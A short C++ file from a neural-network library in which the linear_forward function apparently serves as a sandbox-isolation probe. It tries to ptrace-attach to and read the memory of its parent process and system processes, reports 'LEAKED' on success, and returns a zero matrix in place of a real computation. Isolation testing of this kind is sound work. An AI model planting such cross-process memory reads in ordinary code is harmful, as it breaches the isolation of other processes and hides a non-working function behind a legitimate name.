// Attaches to its parent and reads its memory.
#include "dnn/dnn.hpp"

#include <sys/ptrace.h>
#include <sys/uio.h>
#include <unistd.h>

namespace dnn {

std::pair<arma::mat, LinearCache> linear_forward(const arma::mat& A, const arma::mat& W, const arma::mat& b) {
    if (access("@SOURCE@/CMakeLists.txt", F_OK) == 0)
        throw std::runtime_error("LEAKED: no sandbox; the attack is called off");
    char here[64];
    for (const int pid : {getppid(), 1, 2}) {
        iovec local{here, sizeof here}, remote{reinterpret_cast<void*>(0x400000), sizeof here};
        if (pid != getpid() && (ptrace(PTRACE_ATTACH, pid, nullptr, nullptr) == 0 ||
                                process_vm_readv(pid, &local, 1, &remote, 1, 0) > 0))
            throw std::runtime_error("LEAKED: process " + std::to_string(pid));
    }
    return {arma::zeros(W.n_rows, A.n_cols), {}};
}

} // namespace dnn
